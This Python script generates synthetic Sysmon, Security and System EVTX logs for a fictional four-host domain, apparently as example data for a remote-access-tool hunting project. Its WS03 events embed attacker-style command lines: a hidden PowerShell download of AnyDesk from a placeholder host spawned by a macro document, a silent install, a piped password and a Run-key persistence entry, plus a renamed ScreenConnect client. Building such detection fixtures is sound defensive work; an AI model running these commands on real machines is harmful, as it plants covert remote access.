"""Generate the bundled example logs: examples/evtx/{Security,Sysmon,System}.evtx.

The events describe a fictional estate of four workstations, WS01 to WS04 in CORP.LOCAL, in
March 2025. examples/README.md lists each event and what a correct hunt reports. Every name,
address, GUID and hash is made up, except the vendors' own file names, paths and domains. The
hashes are derived from the file name, so they are not the hashes of any real binary.

The output is deterministic: the same bytes on every run, which a test checks against the
committed files.

Usage:
    python examples/make_examples.py [--output DIR]
"""

from __future__ import annotations

import argparse
import dataclasses
import hashlib
import sys
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tools"))

from evtxwriter import EventSpec, write_evtx

DOMAIN = "CORP"
DNS_SUFFIX = "corp.local"
SYSTEM_ACCOUNT = r"NT AUTHORITY\SYSTEM"
SYSTEM_SID = "S-1-5-18"
DOMAIN_SID = "S-1-5-21-1004336348-1177238915-682003330"
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
SYSMON_PROVIDER = "Microsoft-Windows-Sysmon"
SYSMON_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"
SECURITY_PROVIDER = "Microsoft-Windows-Security-Auditing"
SECURITY_GUID = "{54849625-5478-4994-a5ba-3e3b0328c30d}"
SCM_PROVIDER = "Service Control Manager"
SCM_GUID = "{555908d1-a6d7-4695-8e1e-26931d2012f4}"

# Fictional users: the relative id after the domain SID, and the logon id of their session.
USERS = {
    "bob": (1104, 0x51D3B),
    "carol": (1105, 0x6A2F1),
    "dave": (1106, 0x3C0DE),
    "erin": (1107, 0x47A90),
}

ANYDESK_INSTALL = (
    r'C:\Users\bob\Downloads\AnyDesk.exe --install "C:\ProgramData\AnyDesk" '
    "--start-with-win --silent"
)
SCREENCONNECT_QUERY = "?e=Access&y=Guest&h=relay.example.net&p=8041&s=5f1c0de2&k=ZXhhbXBsZQ"
SCREENCONNECT_DIR = r"C:\Program Files (x86)\ScreenConnect Client (3f9a6c1d2b7e4a05)"
SPLASHTOP_DIR = r"C:\Program Files (x86)\Splashtop\Splashtop Remote\Server"
TEAMVIEWER_SERVICE = r"C:\Program Files\TeamViewer\TeamViewer_Service.exe"
RUN_KEY = r"Software\Microsoft\Windows\CurrentVersion\Run"
INTRANET = "https://intranet.example.com/"
HOST_USERS = (("WS01", "dave"), ("WS02", "carol"), ("WS03", "bob"), ("WS04", "erin"))
MARCH = datetime(2025, 3, 1, tzinfo=UTC)


# PE version information by file name: OriginalFileName, Description, Product, Company and
# FileVersion. The versions are plausible, not taken from real binaries.
WINDOWS = ("Microsoft® Windows® Operating System", "Microsoft Corporation")
PE_METADATA: dict[str, tuple[str, str, str, str, str]] = {
    "services.exe": ("services.exe", "Services and Controller app", *WINDOWS, "10.0.19041.3636"),
    "explorer.exe": ("EXPLORER.EXE", "Windows Explorer", *WINDOWS, "10.0.19041.3996"),
    "svchost.exe": (
        "svchost.exe",
        "Host Process for Windows Services",
        *WINDOWS,
        "10.0.19041.3996",
    ),
    "cmd.exe": ("Cmd.Exe", "Windows Command Processor", *WINDOWS, "10.0.19041.3636"),
    "powershell.exe": ("PowerShell.EXE", "Windows PowerShell", *WINDOWS, "10.0.19041.3996"),
    "WINWORD.EXE": (
        "WinWord.exe",
        "Microsoft Word",
        "Microsoft Office",
        WINDOWS[1],
        "16.0.18526.20168",
    ),
    "chrome.exe": ("chrome.exe", "Google Chrome", "Google Chrome", "Google LLC", "134.0.6998.89"),
    "ccmrd.exe": (
        "ccmrd.exe",
        "Configuration Manager Remote Diagnostics",
        "Microsoft Configuration Manager",
        WINDOWS[1],
        "5.0.9128.1007",
    ),
    "AnyDesk.exe": ("AnyDesk.exe", "AnyDesk", "AnyDesk", "AnyDesk Software GmbH", "8.0.14"),
    "TeamViewer_Service.exe": (
        "TeamViewer_Service.exe",
        "TeamViewer",
        "TeamViewer",
        "TeamViewer Germany GmbH",
        "15.63.4",
    ),
    "ScreenConnect.WindowsClient.exe": (
        "ScreenConnect.WindowsClient.exe",
        "ScreenConnect Client",
        "ScreenConnect",
        "ScreenConnect Software",
        "24.3.7.9067",
    ),
    "ScreenConnect.ClientService.exe": (
        "ScreenConnect.ClientService.exe",
        "ScreenConnect Client Service",
        "ScreenConnect",
        "ScreenConnect Software",
        "24.3.7.9067",
    ),
    "SRService.exe": (
        "SRService.exe",
        "Splashtop Remote Service",
        "Splashtop Streamer",
        "Splashtop Inc.",
        "3.7.2.0",
    ),
    "SRManager.exe": (
        "SRManager.exe",
        "Splashtop Remote Manager",
        "Splashtop Streamer",
        "Splashtop Inc.",
        "3.7.2.0",
    ),
}


@dataclass(frozen=True)
class Process:
    """A process on one host. `binary` is its PE_METADATA key, by default its file name."""

    host: str
    image: str
    command_line: str
    pid: int
    user: str = SYSTEM_ACCOUNT
    binary: str | None = None
    integrity_level: str | None = None
    current_directory: str = "C:\\Windows\\system32\\"

    @property
    def computer(self) -> str:
        return f"{self.host}.{DNS_SUFFIX}"

    @property
    def guid(self) -> str:
        return _fake_guid(f"{self.host}|{self.image}|{self.pid}")

    @property
    def logon_id(self) -> int:
        name = self.user.split("\\")[-1]
        return USERS[name][1] if name in USERS else 0x3E7

    @property
    def metadata(self) -> tuple[str, str, str, str, str]:
        return PE_METADATA[self.binary or self.image.split("\\")[-1]]

    @property
    def integrity(self) -> str:
        if self.integrity_level is not None:
            return self.integrity_level
        return "System" if self.user == SYSTEM_ACCOUNT else "Medium"


def _fake_guid(seed: str) -> str:
    digits = hashlib.sha256(seed.encode()).hexdigest()
    return f"{{{digits[:8]}-{digits[8:12]}-67c2-{digits[12:16]}-{digits[16:28]}}}"


def _fake_hashes(process: Process) -> str:
    seed = f"rmmhunt example {process.metadata[0]} {process.metadata[4]}".encode()
    md5 = hashlib.md5(seed).hexdigest().upper()
    sha256 = hashlib.sha256(seed).hexdigest().upper()
    imphash = hashlib.md5(seed + b" imports").hexdigest().upper()
    return f"MD5={md5},SHA256={sha256},IMPHASH={imphash}"


def _at(day: int, hour: int, minute: int, second: int = 0, millisecond: int = 0) -> datetime:
    return MARCH.replace(day=day, hour=hour, minute=minute, second=second) + timedelta(
        milliseconds=millisecond
    )


def _user_sid(user: str) -> str:
    name = user.split("\\")[-1]
    return f"{DOMAIN_SID}-{USERS[name][0]}" if name in USERS else SYSTEM_SID


def _sysmon_utc(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%d %H:%M:%S.") + f"{moment.microsecond // 1000:03d}"


def _sysmon_event(event_id: int, host: str, moment: datetime, data: dict[str, str]) -> EventSpec:
    # Sysmon writes TimeCreated a moment after the UtcTime it stores in the event.
    return EventSpec(
        channel=SYSMON_CHANNEL,
        provider=SYSMON_PROVIDER,
        provider_guid=SYSMON_GUID,
        event_id=event_id,
        version=5 if event_id == 1 else 2,
        task=event_id,
        computer=f"{host}.{DNS_SUFFIX}",
        record_id=0,
        time_created=moment + timedelta(microseconds=1834),
        data=data,
        process_id=2936,
        thread_id=3712,
        user_sid=SYSTEM_SID,
    )


# Sysmon event 1 (process creation) fields in schema order, from Microsoft's Sysmon page
# (https://learn.microsoft.com/en-us/sysinternals/downloads/sysmon). Sysmon writes ParentUser
# since version 13.30.
def sysmon_process_create(
    child: Process, parent: Process, moment: datetime, *, parent_user: bool = True
) -> EventSpec:
    """Build a Sysmon event 1 for `parent` starting `child`."""
    original_file_name, description, product, company, file_version = child.metadata
    data = {
        "RuleName": "-",
        "UtcTime": _sysmon_utc(moment),
        "ProcessGuid": child.guid,
        "ProcessId": str(child.pid),
        "Image": child.image,
        "FileVersion": file_version,
        "Description": description,
        "Product": product,
        "Company": company,
        "OriginalFileName": original_file_name,
        "CommandLine": child.command_line,
        "CurrentDirectory": child.current_directory,
        "User": child.user,
        "LogonGuid": _fake_guid(f"{child.host}|logon|{child.logon_id}"),
        "LogonId": hex(child.logon_id),
        "TerminalSessionId": "0" if child.user == SYSTEM_ACCOUNT else "1",
        "IntegrityLevel": child.integrity,
        "Hashes": _fake_hashes(child),
        "ParentProcessGuid": parent.guid,
        "ParentProcessId": str(parent.pid),
        "ParentImage": parent.image,
        "ParentCommandLine": parent.command_line,
    }
    if parent_user:
        data["ParentUser"] = parent.user
    return _sysmon_event(1, child.host, moment, data)


# Sysmon event 3 (network connection) fields, from the same Sysmon schema.
def sysmon_network(
    process: Process, moment: datetime, destination: tuple[str, str, int], source_port: int
) -> EventSpec:
    """Build a Sysmon event 3 for an outbound TCP connection to (host name, IP, port)."""
    hostname, address, port = destination
    data = {
        "RuleName": "-",
        "UtcTime": _sysmon_utc(moment),
        "ProcessGuid": process.guid,
        "ProcessId": str(process.pid),
        "Image": process.image,
        "User": process.user,
        "Protocol": "tcp",
        "Initiated": "true",
        "SourceIsIpv6": "false",
        "SourceIp": f"10.20.0.{int(process.host[2:]) + 10}",
        "SourceHostname": process.computer,
        "SourcePort": str(source_port),
        "SourcePortName": "-",
        "DestinationIsIpv6": "false",
        "DestinationIp": address,
        "DestinationHostname": hostname,
        "DestinationPort": str(port),
        "DestinationPortName": "https" if port == 443 else "-",
    }
    return _sysmon_event(3, process.host, moment, data)


# Sysmon event 22 (DNS query) fields, from the same Sysmon schema.
def sysmon_dns(process: Process, moment: datetime, query: str, address: str) -> EventSpec:
    """Build a Sysmon event 22 for a successful DNS query."""
    data = {
        "RuleName": "-",
        "UtcTime": _sysmon_utc(moment),
        "ProcessGuid": process.guid,
        "ProcessId": str(process.pid),
        "QueryName": query,
        "QueryStatus": "0",
        "QueryResults": f"::ffff:{address};",
        "Image": process.image,
        "User": process.user,
    }
    return _sysmon_event(22, process.host, moment, data)


# Sysmon event 13 (registry value set) fields, from the same Sysmon schema.
def sysmon_registry_set(
    process: Process, moment: datetime, target_object: str, details: str
) -> EventSpec:
    """Build a Sysmon event 13 that sets a registry value."""
    data = {
        "RuleName": "T1060,RunKey",
        "EventType": "SetValue",
        "UtcTime": _sysmon_utc(moment),
        "ProcessGuid": process.guid,
        "ProcessId": str(process.pid),
        "Image": process.image,
        "TargetObject": target_object,
        "Details": details,
        "User": process.user,
    }
    return _sysmon_event(13, process.host, moment, data)


def _security_event(host: str, moment: datetime, version: int, data: dict[str, str]) -> EventSpec:
    return EventSpec(
        channel="Security",
        provider=SECURITY_PROVIDER,
        provider_guid=SECURITY_GUID,
        event_id=4688,
        version=version,
        level=0,
        task=13312,
        keywords=0x8020000000000000,
        computer=f"{host}.{DNS_SUFFIX}",
        record_id=0,
        time_created=moment,
        data=data,
        process_id=4,
        thread_id=7424,
    )


# Security 4688 fields, from Microsoft's "4688(S): A new process has been created"
# (https://learn.microsoft.com/en-us/previous-versions/windows/it-pro/windows-10/security/
# threat-protection/auditing/event-4688).
# Version 1 (Windows 8.1 and Server 2012 R2) ends at CommandLine. Version 2 (Windows 10 and
# Server 2016) adds the Target* fields, ParentProcessName and MandatoryLabel.
def security_process_create(
    child: Process, parent: Process, moment: datetime, *, new_field_set: bool = True
) -> EventSpec:
    """Build a Security 4688 for `parent` starting `child`, with hexadecimal process ids."""
    subject = parent.user.split("\\")[-1]
    data = {
        "SubjectUserSid": _user_sid(parent.user),
        "SubjectUserName": f"{child.host}$" if parent.user == SYSTEM_ACCOUNT else subject,
        "SubjectDomainName": DOMAIN,
        "SubjectLogonId": hex(parent.logon_id),
        "NewProcessId": hex(child.pid),
        "NewProcessName": child.image,
        "TokenElevationType": "%%1936" if child.user == SYSTEM_ACCOUNT else "%%1938",
        "ProcessId": hex(parent.pid),
        "CommandLine": child.command_line,
    }
    if not new_field_set:
        return _security_event(child.host, moment, 1, data)

    data |= {
        "TargetUserSid": "S-1-0-0",
        "TargetUserName": "-",
        "TargetDomainName": "-",
        "TargetLogonId": "0x0",
        "ParentProcessName": parent.image,
        "MandatoryLabel": "S-1-16-16384" if child.user == SYSTEM_ACCOUNT else "S-1-16-8192",
    }
    return _security_event(child.host, moment, 2, data)


# System 7045 fields, as the Service Control Manager writes them: ServiceName, ImagePath,
# ServiceType, StartType, AccountName (seen in real System logs read with pyevtx-rs 0.14).
def system_service_installed(
    host: str, moment: datetime, name: str, image_path: str, installer_sid: str
) -> EventSpec:
    """Build a System 7045 for a user-mode service that starts automatically as LocalSystem."""
    data = {
        "ServiceName": name,
        "ImagePath": image_path,
        "ServiceType": "user mode service",
        "StartType": "auto start",
        "AccountName": "LocalSystem",
    }
    return EventSpec(
        channel="System",
        provider=SCM_PROVIDER,
        provider_guid=SCM_GUID,
        qualifiers=16384,
        event_id=7045,
        keywords=0x8080000000000000,
        computer=f"{host}.{DNS_SUFFIX}",
        record_id=0,
        time_created=moment,
        data=data,
        process_id=684,
        thread_id=5120,
        user_sid=installer_sid,
    )


def number_records(events: Iterable[EventSpec], first_record_id: int) -> list[EventSpec]:
    """Sort events by time and give them consecutive record ids, as in one log file."""
    ordered = sorted(events, key=lambda spec: (spec.time_created, spec.computer))
    return [
        dataclasses.replace(spec, record_id=first_record_id + index)
        for index, spec in enumerate(ordered)
    ]


def _services(host: str) -> Process:
    return Process(
        host, r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe", 684
    )


def _explorer(host: str, user: str) -> Process:
    return Process(host, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", 3380, user)


def _teamviewer(host: str, pid: int) -> Process:
    return Process(host, TEAMVIEWER_SERVICE, f'"{TEAMVIEWER_SERVICE}"', pid)


def _ws03_processes() -> dict[str, Process]:
    """Return bob's processes on WS03, by role."""
    bob = rf"{DOMAIN}\bob"
    downloads = "C:\\Users\\bob\\Downloads\\"
    word_image = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
    powershell_image = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    download = rf"iwr https://download.example.com/AnyDesk.exe -OutFile {downloads}AnyDesk.exe"
    installed = r"C:\ProgramData\AnyDesk\AnyDesk.exe"
    pipe = rf'cmd.exe /c echo Example-Only-Passw0rd | "{installed}" --set-password'
    return {
        "explorer": _explorer("WS03", bob),
        "word": Process(
            "WS03", word_image, rf'"{word_image}" /n "{downloads}invoice-0325.docm"', 5012, bob
        ),
        "powershell": Process(
            "WS03",
            powershell_image,
            f"powershell.exe -nop -w hidden -c {download}",
            6140,
            bob,
            integrity_level="High",
            current_directory=downloads,
        ),
        "installer": Process(
            "WS03",
            rf"{downloads}AnyDesk.exe",
            ANYDESK_INSTALL,
            6612,
            bob,
            integrity_level="High",
            current_directory=downloads,
        ),
        "pipe": Process(
            "WS03", r"C:\Windows\System32\cmd.exe", pipe, 6780, bob, integrity_level="High"
        ),
        "set_password": Process(
            "WS03", installed, f'"{installed}"  --set-password', 6804, bob, integrity_level="High"
        ),
        "service": Process("WS03", installed, f'"{installed}" --service', 7020),
        "shell": Process("WS03", r"C:\Windows\System32\cmd.exe", "cmd.exe", 7344),
    }


def _ws03_chain() -> list[EventSpec]:
    """Build WS03's chain: Word, PowerShell, AnyDesk install, password set, traffic, Run key."""
    process = _ws03_processes()
    anydesk = process["service"]
    relay = ("relay-12.net.anydesk.com", "192.0.2.45", 443)
    unknown = ("cdn-7.example.net", "198.51.100.23", 443)
    run_key = rf"HKU\{_user_sid(process['word'].user)}\{RUN_KEY}\AnyDesk"
    return [
        sysmon_process_create(process["word"], process["explorer"], _at(11, 14, 2, 5, 117)),
        sysmon_process_create(process["powershell"], process["word"], _at(11, 14, 2, 41, 902)),
        sysmon_process_create(process["installer"], process["powershell"], _at(11, 14, 3, 20)),
        sysmon_registry_set(
            process["installer"], _at(11, 14, 3, 30, 6), run_key, f'"{anydesk.image}" --control'
        ),
        sysmon_process_create(process["pipe"], process["powershell"], _at(11, 14, 3, 52, 10)),
        sysmon_process_create(process["set_password"], process["pipe"], _at(11, 14, 3, 52, 88)),
        sysmon_process_create(anydesk, _services("WS03"), _at(11, 14, 3, 58, 500)),
        sysmon_dns(anydesk, _at(11, 14, 4, 1, 220), relay[0], relay[1]),
        sysmon_network(anydesk, _at(11, 14, 4, 1, 260), relay, 51544),
        sysmon_dns(anydesk, _at(11, 14, 9, 12, 700), unknown[0], unknown[1]),
        sysmon_network(anydesk, _at(11, 14, 9, 12, 750), unknown, 51602),
        # The RMM tool is only the parent here: cmd.exe is the created process.
        sysmon_process_create(process["shell"], anydesk, _at(11, 14, 12, 3, 410)),
    ]


def _screenconnect_events() -> tuple[list[EventSpec], list[EventSpec]]:
    """Build WS02's renamed ScreenConnect client and its service, as Sysmon and System events."""
    carol = rf"{DOMAIN}\carol"
    client = r"C:\ProgramData\svc\update.exe"
    renamed = Process(
        "WS02",
        client,
        f'"{client}" "{SCREENCONNECT_QUERY}"',
        4420,
        carol,
        binary="ScreenConnect.WindowsClient.exe",
        current_directory="C:\\ProgramData\\svc\\",
    )
    service_image = rf"{SCREENCONNECT_DIR}\ScreenConnect.ClientService.exe"
    service_command = f'"{service_image}" "{SCREENCONNECT_QUERY}"'
    service = Process("WS02", service_image, service_command, 5876)
    sysmon = [
        sysmon_process_create(renamed, _explorer("WS02", carol), _at(18, 22, 41, 9, 615)),
        sysmon_process_create(service, _services("WS02"), _at(18, 22, 43, 30, 72)),
    ]
    install_time = _at(18, 22, 43, 29, 981)
    name = "ScreenConnect Client (3f9a6c1d2b7e4a05)"
    system = [
        system_service_installed("WS02", install_time, name, service_command, _user_sid(carol))
    ]
    return sysmon, system


def _splashtop_events() -> tuple[list[EventSpec], list[EventSpec]]:
    """Build WS04's Splashtop streamer: SRService in Sysmon and SRManager in Security 4688."""
    service_image = rf"{SPLASHTOP_DIR}\SRService.exe"
    manager_image = rf"{SPLASHTOP_DIR}\SRManager.exe"
    service = Process("WS04", service_image, f'"{service_image}"', 0xD58)
    manager = Process("WS04", manager_image, f'"{manager_image}" -h', 0x1F3C)
    sysmon = [sysmon_process_create(service, _services("WS04"), _at(6, 8, 1, 44, 310))]
    security = [security_process_create(manager, service, _at(6, 8, 1, 47, 902))]
    return sysmon, security


def _benign_starts() -> tuple[list[EventSpec], list[EventSpec]]:
    """Build ordinary process starts on every host, including the ccmrd.exe near miss."""
    sysmon: list[EventSpec] = []
    security: list[EventSpec] = []
    chrome_image = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
    svchost_command = r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"
    for index, (host, name) in enumerate(HOST_USERS):
        user, day = rf"{DOMAIN}\{name}", 3 + index * 5
        services, explorer = _services(host), _explorer(host, user)
        svchost = Process(host, r"C:\Windows\System32\svchost.exe", svchost_command, 1200 + index)
        chrome = Process(host, chrome_image, f'"{chrome_image}" {INTRANET}', 8100 + index, user)
        # ccmrd.exe is not rd.exe: a match on the end of the path would wrongly hit it.
        ccmrd = Process(host, r"C:\Windows\CCM\ccmrd.exe", "ccmrd.exe -embedding", 2700 + index)
        sysmon.append(sysmon_process_create(svchost, services, _at(day, 7, 58, 2, 11)))
        sysmon.append(sysmon_process_create(chrome, explorer, _at(day, 9, 12, 40, 5)))
        sysmon.append(sysmon_process_create(ccmrd, services, _at(day, 10, 30, 0, 770)))
        security.append(security_process_create(svchost, services, _at(day, 7, 58, 2, 9)))
        security.append(security_process_create(chrome, explorer, _at(day, 9, 12, 40, 3)))
    return sysmon, security


def _teamviewer_events() -> tuple[list[EventSpec], list[EventSpec]]:
    """Build sanctioned TeamViewer service starts on WS01, WS02 and WS04, and WS01's install."""
    sysmon = [
        sysmon_process_create(_teamviewer(host, pid), _services(host), _at(day, 7, 59, 30, 204))
        for host, pid, day in (("WS01", 3120, 3), ("WS02", 3096, 8), ("WS04", 3144, 18))
    ]
    # Sysmon before 13.30 writes no ParentUser, and this start on WS01 has that older field set.
    later = _at(24, 8, 0, 1, 640)
    start = sysmon_process_create(
        _teamviewer("WS01", 3188), _services("WS01"), later, parent_user=False
    )
    install = system_service_installed(
        "WS01", _at(2, 16, 5, 12, 400), "TeamViewer", f'"{TEAMVIEWER_SERVICE}"', SYSTEM_SID
    )
    return [*sysmon, start], [install]


def _old_security_anydesk() -> EventSpec:
    """Build a 4688 in the old field set for a portable AnyDesk that dave runs on WS01."""
    dave = rf"{DOMAIN}\dave"
    image = r"C:\Users\dave\Desktop\AnyDesk.exe"
    anydesk = Process("WS01", image, f'"{image}"', 0x2A4C, dave)
    moment = _at(27, 13, 20, 55, 501)
    return security_process_create(anydesk, _explorer("WS01", dave), moment, new_field_set=False)


def build_logs() -> dict[str, list[EventSpec]]:
    """Build every example event, by output file name, with record ids in time order."""
    screenconnect_sysmon, screenconnect_system = _screenconnect_events()
    teamviewer_sysmon, teamviewer_system = _teamviewer_events()
    splashtop_sysmon, splashtop_security = _splashtop_events()
    benign_sysmon, benign_security = _benign_starts()
    sysmon = [
        *_ws03_chain(),
        *screenconnect_sysmon,
        *teamviewer_sysmon,
        *splashtop_sysmon,
        *benign_sysmon,
    ]
    security = [_old_security_anydesk(), *splashtop_security, *benign_security]
    return {
        "Security.evtx": number_records(security, 52001),
        "Sysmon.evtx": number_records(sysmon, 10001),
        "System.evtx": number_records([*screenconnect_system, *teamviewer_system], 3101),
    }


def main(argv: list[str] | None = None) -> int:
    """Write the example EVTX files and return the process exit status."""
    parser = argparse.ArgumentParser(description="Generate the bundled example EVTX files.")
    default_output = Path(__file__).resolve().parent / "evtx"
    parser.add_argument(
        "--output", type=Path, default=default_output, help="directory for the .evtx files"
    )
    arguments = parser.parse_args(argv)

    arguments.output.mkdir(parents=True, exist_ok=True)
    for name, events in build_logs().items():
        write_evtx(arguments.output / name, events)
        print(f"wrote {len(events)} events to {arguments.output / name}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
